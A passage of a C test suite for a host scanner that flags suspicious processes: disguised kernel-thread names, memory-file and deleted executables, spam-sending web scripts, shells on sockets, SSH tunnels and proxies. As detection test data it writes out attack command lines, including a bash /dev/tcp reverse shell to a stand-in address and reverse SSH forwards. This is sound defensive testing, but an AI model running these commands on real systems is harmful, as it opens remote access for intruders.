/*
 * Each row is one running program on a host with a mail server, a web server, PHP, cron, at, SSH
 * and inetd, and what speaks against it. A sign has rows that carry it and twins that do not.
 */

#include "base/cidr.h"
#include "scan/process_parts.h"
#include "tap.h"

#define SUBJECT 4711
#define SOCKETS_IN_ROW_MAX 8
#define PIPE_IN 91
#define PIPE_OUT 92

#define S(sign) SIGN_BIT(SIGN_##sign)

/* What the verdict is. */
enum verdict_kind {
    SILENT,
    REMARK,
    ACCUSED,
};

struct row {
    const char *exe, *cmdline, *comm; /* "" as comm: what exec would have set */
    const char *script;
    const char *cgroup;
    int32_t ppid;
    uint32_t uid;
    /*
     * g: the program is root's alone, s: the script is; d: the program is deleted, r: and
     * replaced; D: the script is deleted; c: in a user namespace of its own; i, o: input and
     * output are the first socket; p: they are pipes to netcat, P: to somebody.
     */
    const char *flags;
    /* L: listens, >: connected to, ~: tries, <: was called by, on the local port after '@' */
    const char *sockets;
    sign_set signs;
    enum verdict_kind verdict;
};

#define PID_SYSTEMD 1
#define PID_CRON 500
#define PID_APACHE 600
#define PID_FPM 610
#define PID_SSHD 700
#define PID_ATD 750
#define PID_INETD 800
#define PID_NETCAT 900
#define PID_FAKE_WEB 950

#define PID_PHP_OUTSIDE 960
#define PID_UNREAD 970

#define WWW 33

static struct process
host_process(int32_t pid, int32_t ppid, const char *exe, bool is_guarded)
{
    return (struct process){.pid = pid,
                            .ppid = ppid,
                            .exe = str_from_cstr(exe),
                            .cmdline = str_from_cstr(exe),
                            .comm = program_base(str_from_cstr(exe)),
                            .is_exe_guarded = is_guarded,
                            .start_s = 1795600000};
}

/* The host's processes by pid, the subject last. */
static uint32_t
make_host(struct process list[16])
{
    uint32_t count = 0;

    list[count++] = host_process(PID_SYSTEMD, 0, "/usr/lib/systemd/systemd", true);
    list[count++] = host_process(PID_CRON, 1, "/usr/sbin/cron", true);
    list[count++] = host_process(PID_APACHE, 1, "/usr/sbin/apache2", true);
    list[count++] = host_process(PID_FPM, 1, "/usr/sbin/php-fpm8.2", true);
    list[count++] = host_process(PID_SSHD, 1, "/usr/sbin/sshd", true);
    list[count++] = host_process(PID_ATD, 1, "/usr/sbin/atd", true);
    list[count++] = host_process(PID_INETD, 1, "/usr/sbin/inetd", true);
    list[count] = host_process(PID_NETCAT, 1, "/usr/bin/nc.openbsd", true);
    list[count].stdio_inode[0] = PIPE_OUT;
    list[count].stdio_inode[1] = PIPE_IN;
    list[count].held_first = SOCKETS_IN_ROW_MAX;
    list[count++].held_count = 1;
    list[count++] = host_process(PID_FAKE_WEB, 1, "/home/eve/bin/apache2", false);
    list[count] = host_process(PID_PHP_OUTSIDE, PID_FPM, "/usr/sbin/php-fpm8.2", true);
    list[count].held_first = SOCKETS_IN_ROW_MAX;
    list[count++].held_count = 1;
    list[count++] = host_process(PID_UNREAD, 1, "", false);
    return count;
}

static void
set_end(const char *text, size_t len, unsigned char address[16], uint16_t *ret_port,
        bool *ret_is_ipv4)
{
    struct str end = {text, len}, host;
    struct cidr cidr;
    size_t at = end.len;
    uint64_t port = 0;

    while (at > 0 && end.data[at - 1] != ':')
        at--;
    host = str_first(end, at ? at - 1 : 0);
    CHECK(str_u64(str_from(end, at), &port));
    CHECK(cidr_parse(host, &cidr));
    memcpy(address, cidr.bytes, 16);
    *ret_port = (uint16_t)port;
    *ret_is_ipv4 = cidr.is_ipv4;
}

static struct process_socket
make_socket(struct str word, uint32_t inode)
{
    static const unsigned char own[16] = {192, 0, 2, 10};
    struct process_socket socket = {.inode = inode, .local_port = 40000, .is_ipv4 = true};
    struct str end = str_from(word, 1), remote = str_cut(&end, '@');
    uint64_t port;

    if (word.data[0] == 'L') {
        socket.state = SOCKET_LISTENING;
        set_end(remote.data, remote.len, socket.local, &socket.local_port, &socket.is_ipv4);
        return socket;
    }
    memcpy(socket.local, own, sizeof(own));
    socket.state = word.data[0] == '~' ? SOCKET_CONNECTING : SOCKET_CONNECTED;
    set_end(remote.data, remote.len, socket.remote, &socket.remote_port, &socket.is_ipv4);
    if (end.len && str_u64(end, &port))
        socket.local_port = (uint16_t)port;
    else if (end.len)
        set_end(end.data, end.len, socket.local, &socket.local_port, &socket.is_ipv4);
    return socket;
}

static uint32_t
make_sockets(const char *text, struct process_socket list[SOCKETS_IN_ROW_MAX])
{
    struct str rest = str_from_cstr(text);
    uint32_t count = 0;

    while (rest.len && count < SOCKETS_IN_ROW_MAX) {
        list[count] = make_socket(str_cut(&rest, ' '), 1000 + count);
        count++;
    }
    return count;
}

/* The arguments of a row have blanks between them; '^' stands for a blank inside one. */
static struct str
make_cmdline(const char *text, char data[512])
{
    size_t len = strlen(text);

    for (size_t i = 0; i <= len; i++)
        data[i] = text[i] == ' ' ? '\0' : text[i] == '^' ? ' ' : text[i];
    return (struct str){data, len ? len + 1 : 0};
}

static bool
has_flag(const struct row *row, char flag)
{
    return strchr(row->flags, flag) != NULL;
}

/* What exec sets the name to: of a script its own, otherwise the program's; 15 bytes of it. */
static struct str
make_comm(const struct row *row)
{
    const char *file = row->script[0] ? row->script : row->exe;

    return row->comm[0] ? str_from_cstr(row->comm)
                        : str_first(program_base(str_from_cstr(file)), 15);
}

static struct process
make_subject(const struct row *row, struct str cmdline, uint32_t socket_count)
{
    struct process process = {
        .pid = SUBJECT,
        .ppid = row->ppid,
        .uid = row->uid,
        .start_s = 1795600000,
        .user = row->uid == 0     ? STR("root")
                : row->uid == WWW ? STR("www-data")
                                  : STR("anna"),
        .comm = make_comm(row),
        .cmdline = cmdline,
        .exe = str_from_cstr(row->exe),
        .cwd = STR("/"),
        .cgroup = str_from_cstr(row->cgroup),
        .script = str_from_cstr(row->script),
        .is_exe_guarded = has_flag(row, 'g'),
        .is_script_guarded = has_flag(row, 's'),
        .is_exe_deleted = has_flag(row, 'd'),
        .is_exe_replaced = has_flag(row, 'r'),
        .is_script_deleted = has_flag(row, 'D'),
        .is_contained = has_flag(row, 'c'),
        .held_count = socket_count,
    };

    process.stdio_inode[0] = has_flag(row, 'i')   ? 1000
                             : has_flag(row, 'p') ? PIPE_IN
                             : has_flag(row, 'P') ? 93
                                                  : 0;
    process.stdio_inode[1] = has_flag(row, 'o')   ? 1000
                             : has_flag(row, 'p') ? PIPE_OUT
                             : has_flag(row, 'P') ? 94
                                                  : 0;
    return process;
}

/* The subject's finding among its host; all others are innocent. */
static struct findings *
judge(const struct row *row, struct arena *arena, sign_set *ret_signs)
{
    static const uint32_t held[SOCKETS_IN_ROW_MAX + 1] = {0, 1, 2, 3, 4, 5, 6, 7, 8};
    struct process_socket sockets[SOCKETS_IN_ROW_MAX + 1] = {0};
    struct process list[16];
    struct findings *findings = ARENA_NEW(arena, struct findings);
    uint32_t count = make_host(list), socket_count = make_sockets(row->sockets, sockets);
    struct process_snapshot snapshot = {list, count + 1, sockets, COUNT(sockets), held};
    struct process_start start;
    char cmdline[512];

    /* netcat's own connection, the last */
    sockets[SOCKETS_IN_ROW_MAX] = make_socket(STR(">203.0.113.9:99"), 99);
    findings->arena = arena;
    list[count] = make_subject(row, make_cmdline(row->cmdline, cmdline), socket_count);
    start = process_start_find(&snapshot, &list[count]);
    *ret_signs = process_signs(&snapshot, &list[count], &start);
    process_judge(&snapshot, findings);
    return findings;
}

/* Signs that some row carries. */
static sign_set seen;

static void
check_rows(const struct row *rows, size_t count)
{
    struct arena *arena = arena_new((size_t)1 << 20);

    for (size_t i = 0; i < count; i++) {
        const struct row *row = &rows[i];
        sign_set signs;
        const struct findings *findings = judge(row, arena, &signs);
        bool is_accused = findings->count && findings->list[0].confidence >= FINDING_ACCUSES;

        if (signs != row->signs)
            printf("# row %zu (%s): signs %#jx, not %#jx\n", i, row->cmdline, (uintmax_t)signs,
                   (uintmax_t)row->signs);
        CHECK_ROW(i, signs == row->signs);
        seen |= signs;
        CHECK_ROW(i, findings->count == (row->verdict == SILENT ? 0 : 1));
        CHECK_ROW(i, is_accused == (row->verdict == ACCUSED));
        if (findings->count && signs) {
            const struct finding *finding = &findings->list[0];

            CHECK(finding->kind == FINDING_PROCESS);
            CHECK(strcmp(finding->rule, sign_facts(sign_heaviest(signs))->rule) == 0);
            CHECK_STR(finding->path, row->script[0] ? row->script : row->exe);
            CHECK(str_has(finding->why, STR("Process 4711 of ")));
            CHECK(str_has(finding->advice, STR("ls -l /proc/4711/exe")));
            CHECK(str_has(finding->advice, STR("kill -STOP 4711")) == is_accused);
        }
        arena_reset(arena);
    }
    arena_free(arena);
}

#define PERL "/usr/bin/perl"
#define PYTHON "/usr/bin/python3.11"
#define BASH "/usr/bin/bash"
#define NO_SOCKETS ""
#define SESSION "/user.slice/user-1000.slice/session-3.scope"
#define OUTSIDE_25 ">203.0.113.5:25"
#define OUTSIDE_587 ">203.0.113.5:587"
#define MANY_25 "~203.0.113.5:25 >198.51.100.7:25 >2001:db8::7:25@2001:db8::1:40001"

static void
knows_forged_names(void)
{
    static const struct row rows[] = {
        /* threads of the kernel */
        {PERL, "[kworker/0:1]", "", "", "", 1, WWW, "g", NO_SOCKETS,
         S(KERNEL_NAME) | S(NAME_HIDES_SCRIPT), ACCUSED},
        {PYTHON, "python3 /srv/app/run.py", "kworker/0:1", "/srv/app/run.py", "", 1, 1000, "g",
         NO_SOCKETS, S(KERNEL_NAME), REMARK},
        {"/home/anna/.x/a", "[kswapd0]", "a", "", "", 1, 1000, "", NO_SOCKETS,
         S(KERNEL_NAME) | S(HIDDEN), ACCUSED},
        {BASH, "[migration/0]", "bash", "", "", 1, 1000, "g", NO_SOCKETS,
         S(KERNEL_NAME) | S(NAME_HIDES_SCRIPT), ACCUSED},
        {"/usr/bin/x", "", "kthreadd", "", "", 1, 0, "g", NO_SOCKETS, S(KERNEL_NAME), REMARK},
        /* brackets alone are how workers of Celery and others show what they do */
        {PYTHON, "[celeryd:^worker1:MainProcess]", "celery", "", "", 1, 1000, "g", NO_SOCKETS, 0,
         SILENT},
        {PYTHON, "python3 /srv/app/migration", "migration", "/srv/app/migration", "", 1, 1000, "g",
         NO_SOCKETS, 0, SILENT},
        {"/home/anna/bin/kworker-stats", "kworker-stats", "", "", "", 1, 1000, "", NO_SOCKETS, 0,
         SILENT},
        /* services */
        {PERL, "/usr/sbin/httpd -k start", "httpd", "", "", 1, WWW, "g", NO_SOCKETS,
         S(DAEMON_NAME) | S(NAME_HIDES_SCRIPT), REMARK},
        {PERL, "sshd", "perl", "", "", 1, WWW, "g", OUTSIDE_25,
         S(DAEMON_NAME) | S(NAME_HIDES_SCRIPT) | S(MAIL_DIRECT), ACCUSED},
        {"/usr/bin/php8.2", "-bash", "php", "", "", 1, 1000, "g", NO_SOCKETS,
         S(DAEMON_NAME) | S(NAME_HIDES_SCRIPT), REMARK},
        {"/home/anna/run", "/usr/sbin/apache2 -k start", "apache2", "", "", 1, 1000, "", NO_SOCKETS,
         S(DAEMON_NAME), REMARK},
        {BASH, "sshd", "bash", "", "", 1, 1000, "g", NO_SOCKETS,
         S(DAEMON_NAME) | S(NAME_HIDES_SCRIPT), REMARK},
        /* what titles of honest programs look like */
        {PERL, "spamd^child", "spamd", "", "/system.slice/spamd.service", 1, 0, "g", NO_SOCKETS, 0,
         SILENT},
        {PERL, "/usr/bin/perl -w /usr/sbin/munin-node", "munin-node", "/usr/sbin/munin-node", "", 1,
         0, "gs", NO_SOCKETS, 0, SILENT},
        {"/usr/bin/busybox", "crond -f", "crond", "", "", 1, 0, "g", NO_SOCKETS, 0, SILENT},
        {"/usr/sbin/mariadbd", "/usr/sbin/mysqld", "mysqld", "", "", 1, 110, "g", NO_SOCKETS, 0,
         SILENT},
        {"/usr/sbin/httpd.worker", "/usr/sbin/httpd -k start", "httpd", "", "", 1, WWW, "",
         NO_SOCKETS, 0, SILENT},
        {"/usr/bin/dash", "/bin/sh /sbin/init", "init", "/sbin/init", "", 1, 0, "g", NO_SOCKETS, 0,
         SILENT},
        {BASH, "-sh", "sh", "", SESSION, PID_SSHD, 1000, "g", NO_SOCKETS, 0, SILENT},
        {"/opt/site/bin/nginx", "nginx:^worker^process", "", "", "", 1, 1000, "", NO_SOCKETS, 0,
         SILENT},
    };

    check_rows(rows, COUNT(rows));
}

static void
knows_suspicious_files(void)
{
    static const struct row rows[] = {
        {"/memfd:x", "x", "", "", "", 1, WWW, "d", OUTSIDE_25, S(MEMORY_FILE) | S(MAIL_DIRECT),
         ACCUSED},
        {"/memfd:runc_cloned:/proc/self/exe", "runc init", "runc:[2:INIT]", "", "", 1, 0, "gd",
         NO_SOCKETS, 0, SILENT},
        {"/memfd:runc_cloned:/proc/self/exe", "runc init", "runc:[2:INIT]", "", "", 1, 1000, "d",
         NO_SOCKETS, S(MEMORY_FILE), REMARK},
        {"/tmp/.ICE/x", "./x", "", "", "", 1, WWW, "", NO_SOCKETS, S(TEMPORARY), REMARK},
        {"/dev/shm/x", "./x", "", "", "", 1, WWW, "d", OUTSIDE_25,
         S(DELETED_TEMPORARY) | S(MAIL_DIRECT), ACCUSED},
        {"/tmpfiles/x", "./x", "", "", "", 1, 1000, "", NO_SOCKETS, 0, SILENT},
        {"/home/anna/bin/x", "./x", "", "", "", 1, 1000, "d", NO_SOCKETS, S(DELETED), REMARK},
        {"/srv/www/shop/wp-content/uploads/x", "./x", "", "", "", 1, WWW, "", OUTSIDE_587,
         S(UPLOAD) | S(MAIL_RELAY), REMARK},
        {"/home/anna/.x/y", "y", "", "", "", 1, 1000, "", NO_SOCKETS, S(HIDDEN), REMARK},
        {"/home/anna/.nvm/versions/node/v20/bin/node", "node app.js", "", "app.js", "", 1, 1000, "",
         NO_SOCKETS, 0, SILENT},
        /* an upgrade, and a package that was removed */
        {"/usr/sbin/nginx", "nginx:^master", "", "", "", 1, 0, "gdr", NO_SOCKETS, 0, SILENT},
        {"/usr/bin/x", "x", "", "", "", 1, 0, "gd", NO_SOCKETS, S(DELETED), REMARK},
        /* scripts */
        {PERL, "perl /tmp/b.pl", "", "/tmp/b.pl", "", 1, WWW, "gD", OUTSIDE_25,
         S(SCRIPT_DELETED) | S(SCRIPT_TEMPORARY) | S(MAIL_DIRECT), ACCUSED},
        {PERL, "perl /srv/b.pl", "", "/srv/b.pl", "", 1, 1000, "gD", NO_SOCKETS, S(SCRIPT_DELETED),
         REMARK},
        {"/usr/bin/php8.2", "php /srv/www/a/wp-content/uploads/x.php", "",
         "/srv/www/a/wp-content/uploads/x.php", "/system.slice/apache2.service", 1, WWW, "g",
         OUTSIDE_25, S(UPLOAD) | S(MAIL_DIRECT) | S(WEB_ADRIFT), ACCUSED},
        {"/usr/bin/php8.2", "php /srv/www/a/artisan queue:work", "", "/srv/www/a/artisan",
         "/system.slice/queue.service", 1, WWW, "g", NO_SOCKETS, 0, SILENT},
        {PYTHON, "python3 /usr/share/x/images/y.py", "", "/usr/share/x/images/y.py", "", 1, 0, "gs",
         NO_SOCKETS, 0, SILENT},
        {PYTHON, "python3 /home/anna/.x/y.py", "", "/home/anna/.x/y.py", "", 1, 1000, "g",
         NO_SOCKETS, S(HIDDEN), REMARK},
    };

    check_rows(rows, COUNT(rows));
}

static void
knows_who_sends_mail(void)
{
    static const struct row rows[] = {
        {"/usr/lib/postfix/sbin/smtp", "smtp -t unix -u -c", "", "", "", 1, 107, "g", MANY_25, 0,
         SILENT},
        {"/usr/sbin/exim4", "/usr/sbin/exim4 -Mc x", "", "", "", 1, 101, "g", MANY_25, 0, SILENT},
        {"/var/qmail/bin/qmail-remote", "qmail-remote", "", "", "", 1, 101, "g", MANY_25, 0,
         SILENT},
        {"/usr/sbin/exim4", "/usr/sbin/exim4 -bd", "", "", "", 1, 101, "gdr", MANY_25, 0, SILENT},
        /* the same names, but anybody's files */
        {"/home/anna/postfix/sbin/smtp", "smtp", "", "", "", 1, 1000, "", MANY_25, S(MAIL_MANY),
         REMARK},
        {"/usr/sbin/exim4", "/usr/sbin/exim4", "", "", "", 1, 1000, "", OUTSIDE_25, S(MAIL_DIRECT),
         REMARK},
        {"/tmp/exim4", "exim4", "", "", "", 1, 1000, "", MANY_25, S(TEMPORARY) | S(MAIL_MANY),
         ACCUSED},
        /* in a container nobody's file is root's: its mail server is not accused */
        {"/usr/sbin/exim4", "/usr/sbin/exim4 -bd", "", "", "/lxc/web/x", 1, 100101, "c", MANY_25,
         S(MAIL_RELAY), REMARK},
        {"/usr/bin/neomutt", "neomutt", "", "", SESSION, PID_SSHD, 1000, "g", OUTSIDE_587, 0,
         SILENT},
        {"/usr/bin/monit", "monit", "", "", "", 1, 0, "g", OUTSIDE_25, 0, SILENT},
        {"/home/anna/neomutt", "neomutt", "", "", SESSION, PID_SSHD, 1000, "", OUTSIDE_587,
         S(MAIL_RELAY), REMARK},
        {PYTHON, "python3 /srv/app/news.py", "", "/srv/app/news.py", "/system.slice/news.service",
         1, 1000, "g", OUTSIDE_587, S(MAIL_RELAY), REMARK},
        {PYTHON, "python3 /srv/app/news.py", "", "/srv/app/news.py", "/system.slice/news.service",
         1, 1000, "g", ">127.0.0.1:25 >::1:587", 0, SILENT},
        {PYTHON, "python3 /srv/app/news.py", "", "/srv/app/news.py", "", 1, 1000, "g",
         ">192.0.2.10:25", 0, SILENT},
        {PYTHON, "python3 /srv/app/news.py", "", "/srv/app/news.py", "", 1, 1000, "g",
         ">10.0.0.5:25", S(MAIL_RELAY), REMARK},
        {PYTHON, "python3 /srv/app/news.py", "", "/srv/app/news.py", "", 1, 1000, "g",
         ">203.0.113.5:443", 0, SILENT},
        {PERL, "perl /usr/bin/swaks", "", "/usr/bin/swaks", "", 1, 1000, "gs", OUTSIDE_25,
         S(MAIL_SYSTEM), SILENT},
        /* PHP that speaks SMTP itself */
        {"/usr/sbin/php-fpm8.2", "php-fpm:^pool^shop", "", "", "/system.slice/php8.2-fpm.service",
         PID_FPM, WWW, "g", OUTSIDE_587, S(MAIL_RELAY), REMARK},
        {"/usr/sbin/php-fpm8.2", "php-fpm:^pool^shop", "", "", "/system.slice/php8.2-fpm.service",
         PID_FPM, WWW, "g", MANY_25, S(MAIL_MANY), REMARK},
        {PERL, "perl b.pl", "", "b.pl", "/system.slice/apache2.service", 1, WWW, "g", MANY_25,
         S(MAIL_MANY) | S(WEB_ADRIFT), ACCUSED},
        {PERL, "perl b.pl", "", "b.pl", "/system.slice/apache2.service", PID_APACHE, WWW, "g",
         NO_SOCKETS, S(WEB_CHILD), SILENT},
        {"/usr/bin/convert", "convert a b", "", "", "/system.slice/php8.2-fpm.service", PID_FPM,
         WWW, "g", NO_SOCKETS, S(WEB_CHILD), SILENT},
        /* without root, what the web server's workers are is not known */
        {"", "apache2 -k start", "apache2", "", "/system.slice/apache2.service", PID_UNREAD, WWW,
         "", NO_SOCKETS, S(WEB_CHILD), SILENT},
        {PERL, "perl b.pl", "", "b.pl", "/system.slice/apache2.service", PID_UNREAD, WWW, "g",
         NO_SOCKETS, S(WEB_CHILD), SILENT},
        /* a name does not make a web server */
        {PERL, "perl b.pl", "", "b.pl", "", PID_FAKE_WEB, 1000, "g", NO_SOCKETS, 0, SILENT},
    };

    check_rows(rows, COUNT(rows));
}

static void
knows_shells_on_the_network(void)
{
    static const struct row rows[] = {
        {BASH, "bash -i", "", "", "", 1, WWW, "gio", ">203.0.113.9:4444",
         S(SHELL_ON_SOCKET) | S(SHELL_INTERACTIVE), ACCUSED},
        {"/usr/bin/dash", "/bin/sh", "sh", "", "/system.slice/apache2.service", PID_APACHE, WWW,
         "gio", ">203.0.113.9:4444", S(SHELL_ON_SOCKET) | S(SHELL_WITHOUT_SCRIPT) | S(WEB_CHILD),
         ACCUSED},
        {BASH, "bash -c bash^-i^>&^/dev/tcp/203.0.113.9/4444^0>&1", "", "", "", 1, WWW, "gio",
         ">203.0.113.9:4444", S(SHELL_ON_SOCKET) | S(CODE_OF_SOCKETS), ACCUSED},
        {PYTHON, "python3 -c import^socket", "", "", "", 1, WWW, "gio", ">203.0.113.9:4444",
         S(SHELL_ON_SOCKET) | S(CODE_OF_SOCKETS), ACCUSED},
        {PYTHON, "python3 -c print(1)", "", "", "", 1, 1000, "g", NO_SOCKETS, 0, SILENT},
        {PYTHON, "python3 -c import^socket", "", "", "", 1, 1000, "g", NO_SOCKETS,
         S(CODE_OF_SOCKETS), REMARK},
        {BASH, "bash -i", "", "", SESSION, PID_SSHD, 1000, "gp", NO_SOCKETS,
         S(SHELL_BY_NETCAT) | S(SHELL_INTERACTIVE), ACCUSED},
        {BASH, "bash /srv/deploy.sh", "", "/srv/deploy.sh", SESSION, PID_SSHD, 1000, "gp",
         NO_SOCKETS, 0, SILENT},
        /* PHP carries bytes between a connection and the pipes of a shell */
        {"/usr/bin/dash", "/bin/sh -i", "sh", "", "/system.slice/php8.2-fpm.service",
         PID_PHP_OUTSIDE, WWW, "gP", NO_SOCKETS,
         S(SHELL_BY_PARENT) | S(SHELL_INTERACTIVE) | S(WEB_CHILD), ACCUSED},
        {"/usr/bin/dash", "sh", "sh", "", "/system.slice/php8.2-fpm.service", PID_PHP_OUTSIDE, WWW,
         "gP", NO_SOCKETS, S(SHELL_BY_PARENT) | S(SHELL_WITHOUT_SCRIPT) | S(WEB_CHILD), REMARK},
        {"/usr/bin/dash", "sh -c convert^a^b", "sh", "", "/system.slice/php8.2-fpm.service",
         PID_PHP_OUTSIDE, WWW, "gP", NO_SOCKETS, S(WEB_CHILD), SILENT},
        {"/usr/bin/dash", "sh -i", "sh", "", "/system.slice/php8.2-fpm.service", PID_FPM, WWW, "gP",
         NO_SOCKETS, S(WEB_CHILD), SILENT},
        /* services of inetd and of systemd, one process a connection */
        {BASH, "bash /srv/serve.sh", "", "/srv/serve.sh", "", PID_INETD, 1000, "gio",
         ">203.0.113.9:4444@79", S(SHELL_SERVICE), REMARK},
        {BASH, "bash /srv/serve.sh", "", "/srv/serve.sh",
         "/system.slice/system-finger.slice/finger@7-192.0.2.10:79-203.0.113.9:4444.service", 1,
         1000, "gio", ">203.0.113.9:4444@79", S(SHELL_SERVICE), REMARK},
        {PYTHON, "python3 /srv/serve.py", "", "/srv/serve.py", "", PID_INETD, 1000, "gio",
         ">203.0.113.9:4444@79", 0, SILENT},
        /* an ordinary login, a socket that was merely inherited, one that waits for callers */
        {BASH, "-bash", "", "", SESSION, PID_SSHD, 1000, "g", NO_SOCKETS, 0, SILENT},
        {BASH, "bash -c sleep^9", "", "", "", 1, 1000, "gi", ">203.0.113.9:4444", 0, SILENT},
        {BASH, "bash -c sleep^9", "", "", "", 1, 1000, "gi", "L127.0.0.1:9000", 0, SILENT},
    };

    check_rows(rows, COUNT(rows));
}

static void
knows_tunnels_and_proxies(void)
{
    static const struct row rows[] = {
        {"/usr/bin/ssh", "ssh -fNR 2222:localhost:22 anna@203.0.113.9", "", "", "", 1, 1000, "g",
         NO_SOCKETS, S(SSH_REVERSE), REMARK},
        {"/usr/bin/ssh", "ssh -N -p 22 -D1080 203.0.113.9", "", "", "", 1, 1000, "g", NO_SOCKETS,
         S(SSH_DYNAMIC), REMARK},
        {"/usr/bin/ssh", "ssh 203.0.113.9 -o RemoteForward=80^x:80", "", "", "", 1, 1000, "g",
         NO_SOCKETS, S(SSH_REVERSE), REMARK},
        {"/usr/bin/ssh", "ssh -L 8080:x:80 203.0.113.9", "", "", "", 1, 1000, "g", NO_SOCKETS,
         S(SSH_LOCAL), REMARK},
        {"/usr/bin/ssh", "ssh -i -R 203.0.113.9 tar -R x -D y", "", "", "", 1, 1000, "g",
         NO_SOCKETS, 0, SILENT},
        {"/usr/bin/ssh", "ssh 203.0.113.9", "", "", SESSION, PID_SSHD, 1000, "g", ">203.0.113.9:22",
         0, SILENT},
        /* sessions of the server that forward for a stolen login */
        {"/usr/sbin/sshd", "sshd:^anna", "", "", SESSION, PID_SSHD, 1000, "g", MANY_25,
         S(MAIL_MANY) | S(SSHD_FORWARDS), ACCUSED},
        {"/usr/sbin/sshd", "sshd:^anna", "", "", SESSION, PID_SSHD, 1000, "g",
         "<203.0.113.9:5000@22 L127.0.0.1:6010", 0, SILENT},
        {"/usr/sbin/sshd", "sshd:^anna", "", "", SESSION, PID_SSHD, 1000, "g",
         "<203.0.113.9:5000@22 L0.0.0.0:8022", S(SSHD_FORWARDS), REMARK},
        {"/usr/sbin/sshd", "sshd:^/usr/sbin/sshd", "", "", "/system.slice/ssh.service", 1, 0, "g",
         "L0.0.0.0:22 L0.0.0.0:2222", 0, SILENT},
        /* proxies */
        {"/home/anna/microsocks", "microsocks", "", "", "", 1, 1000, "", "L0.0.0.0:1080", S(PROXY),
         REMARK},
        {"/usr/sbin/squid", "squid", "", "", "/system.slice/squid.service", 1, 13, "g",
         "L0.0.0.0:3128", S(PROXY_SYSTEM), REMARK},
        {"/usr/sbin/squid", "squid", "", "", "/system.slice/squid.service", 1, 13, "g",
         "L127.0.0.1:3128", 0, SILENT},
        {PYTHON, "python3 /srv/s5.py", "", "/srv/s5.py", "", 1, 1000, "g", "L0.0.0.0:1080",
         S(PROXY_PORT), REMARK},
        {PYTHON, "python3 /tmp/s5.py", "", "/tmp/s5.py", "", 1, WWW, "g",
         "L0.0.0.0:7000 <203.0.113.9:5000@7000 >203.0.113.5:25",
         S(SCRIPT_TEMPORARY) | S(PASSES_ON) | S(MAIL_DIRECT) | S(LISTENS_HIDDEN), ACCUSED},
        {"/usr/bin/node", "node /srv/app/main.js", "", "/srv/app/main.js", "", 1, 1000, "g",
         "L0.0.0.0:7000 <203.0.113.9:5000@7000 >203.0.113.5:587", S(MAIL_RELAY), REMARK},
        /* listeners */
        {PERL, "perl /tmp/b.pl", "", "/tmp/b.pl", "/system.slice/apache2.service", 1, WWW, "g",
         "L0.0.0.0:7000", S(SCRIPT_TEMPORARY) | S(LISTENS_HIDDEN) | S(WEB_ADRIFT), ACCUSED},
        {PYTHON, "python3 -m http.server", "", "", SESSION, PID_SSHD, 1000, "g", "L0.0.0.0:8000",
         S(LISTENS), REMARK},
        {PYTHON, "python3 -m http.server", "", "", SESSION, PID_SSHD, 1000, "g", "L127.0.0.1:8000",
         0, SILENT},
        {PYTHON, "python3 /srv/app/run.py", "", "/srv/app/run.py", "/system.slice/app.service", 1,
         1000, "g", "L0.0.0.0:8000", 0, SILENT},
    };

    check_rows(rows, COUNT(rows));
}

static void
knows_how_things_start(void)
{
    static const struct {
        const char *cgroup;
        int32_t ppid;
        enum start_kind kind;
        bool is_adrift;
        const char *unit;
    } rows[] = {
        {"/system.slice/cron.service", 1, START_CRON, false, "cron.service"},
        {"", PID_CRON, START_CRON, false, ""},
        {"/system.slice/atd.service", 1, START_AT, false, "atd.service"},
        {"", PID_ATD, START_AT, false, ""},
        {SESSION, PID_SSHD, START_SSH, false, "session-3.scope"},
        {SESSION, 1, START_SESSION, false, "session-3.scope"},
        {"/system.slice/apache2.service", PID_APACHE, START_WEB, false, "apache2.service"},
        {"/system.slice/apache2.service", 1, START_WEB, true, "apache2.service"},
        /* a parent that ended while the list was read */
        {"/system.slice/apache2.service", 12345, START_WEB, false, "apache2.service"},
        {"/system.slice/ea-php82-php-fpm.service", 1, START_WEB, true, "ea-php82-php-fpm.service"},
        {"/system.slice/php-worker.service", 1, START_UNIT, false, "php-worker.service"},
        {"/system.slice/nginx-exporter.service", 1, START_UNIT, false, "nginx-exporter.service"},
        {"/system.slice/news.service", 1, START_UNIT, false, "news.service"},
        {"/user.slice/user-1000.slice/user@1000.service/app.slice/x.service", 1, START_USER_UNIT,
         false, "x.service"},
        {"/system.slice/docker-0123abcd.scope", 1, START_CONTAINER, false, "docker-0123abcd.scope"},
        {"/kubepods/burstable/pod1/0123abcd", 1, START_CONTAINER, false, ""},
        {"", PID_FAKE_WEB, START_UNKNOWN, false, ""},
        {"/", 1, START_UNKNOWN, false, ""},
        /* a user may name a group of the user's own: it is never part of a command */
        {"/user.slice/user-1000.slice/user@1000.service/x; reboot.service", 1, START_USER_UNIT,
         false, ""},
        {"/user.slice/user-1000.slice/user@1000.service/-f.service", 1, START_USER_UNIT, false, ""},
    };
    struct process list[16];
    uint32_t count = make_host(list);
    struct process_snapshot snapshot = {list, count + 1, NULL, 0, NULL};

    for (size_t i = 0; i < COUNT(rows); i++) {
        struct process_start start;

        list[count] = host_process(SUBJECT, rows[i].ppid, "/srv/x", false);
        list[count].cgroup = str_from_cstr(rows[i].cgroup);
        start = process_start_find(&snapshot, &list[count]);
        CHECK_ROW(i, start.kind == rows[i].kind);
        CHECK_ROW(i, start.is_adrift == rows[i].is_adrift);
        CHECK_STR(start.unit, rows[i].unit);
    }
    /* Parents in a circle, as a snapshot of what moves may hold. */
    list[count].ppid = SUBJECT;
    CHECK(process_start_find(&snapshot, &list[count]).kind == START_USER_UNIT);
}

static void
reads_what_interpreters_run(void)
{
    static const struct {
        const char *exe, *cmdline, *script, *code;
        bool is_module;
    } rows[] = {
        {PERL, "perl b.pl x", "b.pl", "", false},
        {PERL, "/usr/bin/perl -w -I/lib -I lib b.pl", "b.pl", "", false},
        {PERL, "perl -lne print", "", "print", false},
        {PERL, "perl -- -b.pl", "-b.pl", "", false},
        {PERL, "perl -", "", "", false},
        {PERL, "perl +", "", "", false},
        {PERL, "perl5.36.0 b.pl", "b.pl", "", false},
        {PYTHON, "python3 -u -X dev /a/b.py", "/a/b.py", "", false},
        {PYTHON, "python3 -m http.server 80", "http.server", "", true},
        {PYTHON, "python3 -c import^x", "", "import^x", false},
        {"/usr/bin/php8.2", "php -d a=b -dx=y -f /a/b.php", "/a/b.php", "", false},
        {"/usr/bin/php8.2", "php -r x();", "", "x();", false},
        {"/usr/bin/php8.2", "php /a/artisan queue:work", "/a/artisan", "", false},
        {BASH, "bash --norc -lc ls /x", "", "ls", false},
        {BASH, "bash -cl ls", "", "ls", false},
        {BASH, "bash -o errexit x.sh", "x.sh", "", false},
        {BASH, "-bash", "", "", false},
